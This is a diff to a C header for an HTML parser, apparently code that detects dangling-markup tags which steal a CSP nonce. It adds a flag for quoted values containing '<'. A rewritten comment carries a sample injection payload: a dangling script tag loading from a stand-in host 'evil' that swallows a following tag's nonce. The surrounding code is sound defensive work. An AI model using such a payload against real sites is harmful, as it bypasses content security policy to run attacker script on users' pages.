@@ -57,11 +57,15 @@ typedef struct {
     unsigned             self_closing:1;
 
     /*
-     * What CSP3 ("is element nonceable") holds against the tag.  "markup":
-     * an attribute's raw name or value, of duplicates too, has "<script" or
-     * "<style" in it, the trace of a dangling tag that swallowed the next.
-     * Browsers do not look for "<link", which may have a nonce as well: a
-     * dangling script before a link would take the link's.
+     * What speaks against the tag.  "markup" is the trace of a dangling tag
+     * that swallowed the next one, and its nonce, in duplicates too:
+     *
+     *     <script src=//evil a="<p title="b" nonce=SECRET>
+     *
+     * a quoted value has "<script", "<style" or "<link" in it; a name or an
+     * unquoted value has a "<"; or one of these has a quote in it and comes
+     * after a quoted value that has a "<".  CSP3 ("is element nonceable")
+     * has browsers look for "<script" and "<style" alone.
      * "duplicate": some attribute's name came twice.
      */
     unsigned             markup:1;
@@ -99,6 +103,7 @@ typedef struct {
     unsigned             value_len;
     unsigned             match;        /* of "<script" and others */
     unsigned char        quote;
+    unsigned char        quoted_lt;    /* a quoted value had a "<" */
 
     unsigned char        name[RT_HTML_NAME_MAX + 8];
     unsigned char        attr[RT_HTML_NAME_MAX];
